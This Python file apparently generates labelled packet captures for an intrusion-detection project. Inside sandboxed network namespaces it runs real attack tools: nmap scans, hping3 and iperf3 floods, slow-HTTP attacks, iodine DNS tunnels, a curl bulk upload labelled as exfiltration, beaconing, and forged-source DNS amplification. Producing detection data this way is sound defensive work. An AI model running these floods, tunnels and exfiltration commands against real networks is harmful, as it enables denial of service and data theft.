# SPDX-License-Identifier: Apache-2.0
"""Attacks of real programs, between two network namespaces that are made and removed: nmap, hping3, slowhttptest,
iperf3, curl, iodine, and the scripts of actors.py. What tcpdump saw of one is a capture with its Episode.

    programs.py KIND OUT.pcap [JSON]        one of them; alone: which there are, and whether they can run here
"""
import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from attacks import Episode
from wire import read

HERE = Path(__file__).resolve().parent
LINK = ("192.168.255.1", "192.168.255.2")


class Refused(Exception):
    """Something that it needs is not here."""


def needs(*programs):
    for p in programs:
        if not shutil.which(p) and not os.path.exists("/usr/sbin/" + p):
            raise Refused(f"{p} is not here")


def sh(*args, check=True):
    return subprocess.run(args, check=check, capture_output=True, text=True)


class World:
    """Who attacks, in one namespace; who is attacked, in the other, where addresses that nobody has are silent."""

    def __init__(self, ours, theirs, snap=256):
        self.names = [f"ftd{os.getpid()}{x}" for x in "ab"]
        self.running, self.snap = [], snap
        self.folder = tempfile.TemporaryDirectory(prefix="flowtap-detect-")
        self.capture = os.path.join(self.folder.name, "seen.pcap")
        self.ours, self.theirs = ours, theirs

    def __enter__(self):
        needs("ip", "tcpdump")
        a, b = self.names
        try:
            for n in self.names:
                sh("ip", "netns", "add", n)
            sh("ip", "link", "add", "va", "netns", a, "type", "veth", "peer", "name", "vb", "netns", b)
            for n, dev, own, other, addresses in ((a, "va", *LINK, self.ours), (b, "vb", *reversed(LINK), self.theirs)):
                self.inside(n, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1", check=False)
                self.inside(n, "sysctl", "-qw", "net.ipv4.icmp_ratelimit=0", check=False)
                for x in addresses:
                    sh("ip", "-n", n, "addr", "add", x + "/32", "dev", "lo")
                sh("ip", "-n", n, "addr", "add", own + "/30", "dev", dev)
                sh("ip", "-n", n, "link", "set", dev, "mtu", "9000")
                for d in ("lo", dev):
                    sh("ip", "-n", n, "link", "set", d, "up")
                sh("ip", "-n", n, "route", "add", "default", "via", other, "src", addresses[0])
        except subprocess.CalledProcessError as e:
            self.__exit__()
            raise Refused("no right to make network namespaces: " + e.stderr.strip()) from e
        self.inside(a, "ping", "-c1", "-W2", LINK[1], check=False)  # neighbours know each other before
        self.tcpdump = self.start(b, "tcpdump", "-i", "vb", "-n", "-s", str(self.snap), "-B", "131072", "-U", "-Z", "root",
                                  "-w", self.capture, "ip and not net 192.168.255.0/30", stderr=subprocess.PIPE)
        end = time.monotonic() + 10
        while not (os.path.exists(self.capture) and os.path.getsize(self.capture) >= 24) and time.monotonic() < end:
            time.sleep(0.02)
        return self

    def inside(self, ns, *args, check=True):
        return sh("ip", "netns", "exec", ns, *args, check=check)

    def start(self, ns, *args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL):
        p = subprocess.Popen(["ip", "netns", "exec", ns, *args], stdin=subprocess.DEVNULL, stdout=stdout, stderr=stderr)
        self.running.append(p)
        return p

    def serve(self, role, **how):
        p = self.start(self.names[1], sys.executable, "-B", str(HERE / "actors.py"), role, json.dumps(how),
                       stdout=subprocess.PIPE, stderr=None)
        if not p.stdout.readline():
            raise RuntimeError(f"{role} does not serve")

    def attack(self, *args, seconds=120):
        """Runs a program where the attackers are, so long at most."""
        return self.inside(self.names[0], "timeout", "-s", "INT", str(seconds), *args, check=False)

    def act(self, role, at_most=300, **how):
        r = self.attack(sys.executable, "-B", str(HERE / "actors.py"), role, json.dumps(how), seconds=at_most)
        if r.returncode:
            raise RuntimeError(r.stderr)

    def seen(self):
        """Ends the capture; its packets. What tcpdump lost is told."""
        time.sleep(1.6)  # the kernel hands out what it has once a second
        self.tcpdump.send_signal(signal.SIGINT)
        said = self.tcpdump.communicate(timeout=20)[1].decode()
        self.lost = int(next((x.split()[0] for x in said.split("\n") if "dropped by kernel" in x), "0"))
        return read(self.capture)

    def __exit__(self, *_):
        for p in self.running:
            if p.poll() is None:
                p.terminate()
        for p in self.running:
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                p.kill()
        for n in self.names:
            sh("ip", "netns", "del", n, check=False)
        self.folder.cleanup()


VICTIMS = ["10.1.0.2", "10.1.0.4", "10.1.0.5", "10.1.1.11", "10.1.1.17", "10.1.1.30", "10.1.2.10", "10.1.2.11"]


def episode(rule, kind, address, packets, maker, peer=None, port=None):
    times = [p[0] for p in packets]
    return Episode(rule, kind, address, peer, port, min(times), max(times), maker)


def nmap(who, rule, kind, args, seconds=120):
    """What nmap is told; its victims have three open ports."""
    needs("nmap")
    with World([who], VICTIMS) as w:
        w.serve("serve_http", addresses=VICTIMS, ports=[80, 445, 8080])
        w.attack("nmap", "-n", "-Pn" if "-sn" not in args else "-sn", *[a for a in shlex.split(args) if a != "-sn"], seconds=seconds)
        packets = w.seen()
    targets = [a for a in shlex.split(args) if a.startswith("10.") and "/" not in a]
    return packets, episode(rule, kind, who, packets, "nmap " + args, targets[0] if rule == "port_scan" else None)


def flood(who, rule, kind, victim, args, seconds=4, port=80):
    """hping3 for some seconds; the victim serves on its port."""
    needs("hping3")
    with World([who], VICTIMS, snap=64) as w:
        w.serve("serve_http", addresses=[victim], ports=[port])
        w.attack("hping3", *shlex.split(args), "-p", str(port), victim, seconds=seconds)
        packets = w.seen()
    return packets, episode(rule, kind, victim, packets, "hping3 " + args, port=port if rule == "syn_flood" else None)


def iperf(who, victim, args, rule="volume_flood", kind="UDP"):
    needs("iperf3")
    with World([who], VICTIMS, snap=96) as w:
        w.start(w.names[1], "iperf3", "-s", "-B", victim)
        time.sleep(0.5)
        w.attack("iperf3", "-B", who, "-c", victim, *shlex.split(args), seconds=30)
        packets = w.seen()
    return packets, episode(rule, kind, victim, packets, "iperf3 " + args)


def slow(who, victim, args, seconds=60):
    needs("slowhttptest")
    with World([who], VICTIMS) as w:
        w.serve("serve_http", addresses=[victim], ports=[80])
        w.attack("slowhttptest", *shlex.split(args), "-l", str(seconds), "-u", f"http://{victim}/", seconds=seconds + 10)
        packets = w.seen()
    return packets, episode(None, "slow HTTP", who, packets, "slowhttptest " + args, victim, 80)


def iodine(who, server, kind="NULL", megabytes=0.2, seconds=40):
    """A tunnel through DNS: a file goes through it."""
    needs("iodine", "iodined")
    with World([who], [server], snap=0) as w:
        w.start(w.names[1], "iodined", "-f", "-c", "-P", "word", "-l", server, "10.254.0.1/30", "t.hidden.example")
        time.sleep(1)
        w.start(w.names[0], "iodine", "-f", "-4", "-P", "word", "-r", "-T", kind, server, "t.hidden.example")
        end = time.monotonic() + 40
        while w.inside(w.names[0], "ping", "-c1", "-W1", "10.254.0.1", check=False).returncode:
            if time.monotonic() > end:
                raise Refused("iodine made no tunnel")
            time.sleep(0.2)
        w.serve("serve_http", addresses=["10.254.0.1"], ports=[8000])
        data = os.path.join(w.folder.name, "data")
        Path(data).write_bytes(os.urandom(int(megabytes * 1e6)))
        w.attack("curl", "-s", "-T", data, "http://10.254.0.1:8000/data", seconds=seconds)
        packets = w.seen()
    return packets, episode("dns_tunnel", f"iodine, {kind}", who, packets, f"iodine -T {kind}", server)


def dnscat(who, server, kind="TXT", seconds=40, gap=0.1, length=120, letters="0123456789abcdef", seed=0):
    with World([who], [server], snap=0) as w:
        w.serve("serve_dns", address=server, zone="c.other.example")
        w.act("tunnel", who=who, server=server, zone="c.other.example", kind=kind, seconds=seconds, gap=gap, length=length,
              letters=letters, seed=seed)
        packets = w.seen()
    return packets, episode("dns_tunnel", f"{kind}, {length} letters", who, packets, "actors.py tunnel", server)


def dga(who, server, family="letters", count=150, gap=0.1, seed=0):
    with World([who], [server], snap=0) as w:
        w.serve("serve_dns", address=server)
        w.act("generate_names", who=who, server=server, family=family, count=count, gap=gap, seed=seed)
        packets = w.seen()
    return packets, episode("dga", f"names of {family}", who, packets, "actors.py generate_names")


def beacon(who, peer, port=443, every=0.5, jitter=0.1, seconds=30, up=400, down=300, spread=0.0, seed=0):
    with World([who], [peer]) as w:
        w.serve("serve_calls", addresses=[peer], port=port)
        w.act("call_home", who=who, peer=peer, port=port, every=every, jitter=jitter, seconds=seconds, up=up, down=down,
              spread=spread, seed=seed)
        packets = w.seen()
    return packets, episode("beacon", f"jitter {jitter * 100:.0f} %", who, packets, "actors.py call_home", peer, port)


def long_connection(who, peer, port=4444, every=0.05, seconds=20, up=100, down=100):
    with World([who], [peer]) as w:
        w.serve("serve_calls", addresses=[peer], port=port)
        w.act("stay", who=who, peer=peer, port=port, every=every, seconds=seconds, up=up, down=down)
        packets = w.seen()
    return packets, episode("long_connection", "a connection that stays", who, packets, "actors.py stay", peer, port)


def exfiltration(who, peer, megabytes=200, rate="20M", port=443):
    needs("curl")
    with World([who], [peer], snap=96) as w:
        w.serve("serve_http", addresses=[peer], ports=[port])
        data = os.path.join(w.folder.name, "data")
        with open(data, "wb") as f:
            f.truncate(int(megabytes * 1e6))
        w.attack("curl", "-s", "--limit-rate", rate, "-T", data, f"http://{peer}:{port}/data", seconds=120)
        packets = w.seen()
    return packets, episode("exfiltration", "an upload to somebody new", who, packets, f"curl -T, {megabytes} MB", peer, port)


def amplification(victim, reflectors, rate=500, seconds=10, big=3000):
    with World([victim], reflectors, snap=200) as w:
        for x in reflectors:
            w.serve("serve_dns", address=x, big=big)
        w.act("forge", victim=victim, reflectors=reflectors, rate=rate, seconds=seconds)
        packets = w.seen()
    return packets, episode("amplification", "answers to forged questions", victim, packets, "actors.py forge", port=53)


def speed_test(who, victim, args="-b 300M -t 3"):
    """Nothing bad: somebody tries how fast the network is."""
    packets, e = iperf(who, victim, args)
    e.rule, e.kind = "benign", "speed test"
    return packets, e


def fetches(who, servers, times=40, port=443):
    """Nothing bad: pages by curl, and one server in five that is not there."""
    needs("curl")
    with World([who], servers) as w:
        w.serve("serve_http", addresses=servers[len(servers) // 5:], ports=[port])
        for i in range(times):
            w.attack("curl", "-s", "-o", "/dev/null", "-m", "2", f"http://{servers[i % len(servers)]}:{port}/{i}")
        packets = w.seen()
    return packets, episode("benign", "pages", who, packets, "curl")


KINDS = {f.__name__: f for f in (nmap, flood, iperf, slow, iodine, dnscat, dga, beacon, long_connection, exfiltration,
                                 amplification, speed_test, fetches)}


def main():
    if len(sys.argv) < 3:
        print("\n".join(KINDS))
        return
    from wire import write
    packets, e = KINDS[sys.argv[1]](**json.loads(sys.argv[3] if len(sys.argv) > 3 else "{}"))
    write(sys.argv[2], packets)
    print(json.dumps(e.row()))


if __name__ == "__main__":
    main()
